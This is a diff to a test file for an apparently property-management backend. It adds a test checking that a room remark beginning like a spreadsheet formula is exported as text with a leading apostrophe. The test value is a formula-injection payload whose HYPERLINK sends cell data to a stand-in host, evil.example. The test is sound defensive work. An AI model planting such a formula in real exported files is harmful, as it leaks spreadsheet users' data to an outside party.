@@ -2,6 +2,7 @@ import ExcelJS from 'exceljs';
 import { RC } from '@wuye/contract';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { readXlsx } from '../lib/excel.js';
 import { hostileXlsx, type HostileKind } from '../test/hostile-files.js';
 import { startTestServer, type TestServer } from '../test/harness.js';
 
@@ -164,5 +165,17 @@ describe('who sees a job', () => {
     const text = JSON.stringify(job.data.result.errors);
     expect(text).toContain('姓名不一致');
     expect(text).not.toContain(known.realname);
+  });
+});
+
+describe('exports and formulas (issue 33, item 14)', () => {
+  it('writes a room remark that starts like a formula as text with a leading apostrophe', async () => {
+    const room = (await s.call('roomlist', { limit: 1 }, admin)).data.items[0];
+    const remark = '=HYPERLINK("http://evil.example/?"&A1,"查看")';
+    const add = await s.call('roomadd', { bid: room.bid, tid: room.tid, title: 'F01', built_area: '10', remark }, admin);
+    expect(add.return_code, add.return_msg).toBe(RC.SUCCESS);
+    const file = await s.exportFile('roomexport', { keyword: 'F01' }, admin);
+    const sheet = await readXlsx(file.data.content_base64);
+    expect(sheet.rows.map((r) => r.values['备注'])).toContain(`'${remark}`);
   });
 });
